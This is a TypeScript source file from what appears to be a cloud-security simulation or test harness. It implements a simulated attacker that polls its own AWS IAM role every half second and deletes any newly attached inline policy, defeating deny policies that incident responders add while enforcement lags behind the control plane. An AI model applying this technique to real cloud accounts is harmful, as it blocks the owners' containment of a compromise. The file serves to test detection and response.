import { z } from 'zod'
import { type Actor, createActor } from '../actor.js'
import type { Attacker } from './attacker.js'

const listedPolicies = z.object({
  PolicyNames: z.array(z.string()),
  IsTruncated: z.boolean(),
  Marker: z.string().optional(),
})

/**
 * Deletes every inline policy of its own role that was not there when it started, as the role itself. It wins while
 * enforcement lags behind the control plane: the block is gone before it ever denies the deletion. (OFFENSAI's notyet
 * does this, every half second.)
 */
export const stripInline: Attacker = {
  name: 'strip-inline',
  summary: 'deletes inline policies that appear on the role, as the role itself',
  start: ({ account, roleName, sourceIp = '198.51.100.66', userAgent = 'python-requests/2.32.3', everyMs = 500 }) => {
    const actor = createActor({ account, roleName, sessionName: 'maintenance', sourceIp, userAgent })
    let known = listInlinePolicies(actor, roleName)
    const timer = setInterval(() => {
      // Until its first list succeeds it does not know its own policies, and deletes nothing.
      if (known === undefined) known = listInlinePolicies(actor, roleName)
      else strip(actor, roleName, known)
    }, everyMs)
    timer.unref()
    return { stop: () => clearInterval(timer) }
  },
}

function strip(actor: Actor, roleName: string, known: string[]): void {
  const foreign = (listInlinePolicies(actor, roleName) ?? []).filter((name) => !known.includes(name))
  for (const PolicyName of foreign) {
    actor.call({ service: 'iam', action: 'DeleteRolePolicy', parameters: { RoleName: roleName, PolicyName } })
  }
}

/** undefined: the role may not list its policies. */
function listInlinePolicies(actor: Actor, RoleName: string, Marker?: string): string[] | undefined {
  const parameters = { RoleName, ...(Marker !== undefined && { Marker }) }
  const reply = actor.call({ service: 'iam', action: 'ListRolePolicies', parameters })
  if (!reply.ok) return undefined
  const page = listedPolicies.parse(reply.result)
  if (!page.IsTruncated || page.Marker === undefined) return page.PolicyNames
  const rest = listInlinePolicies(actor, RoleName, page.Marker)
  return rest && [...page.PolicyNames, ...rest]
}
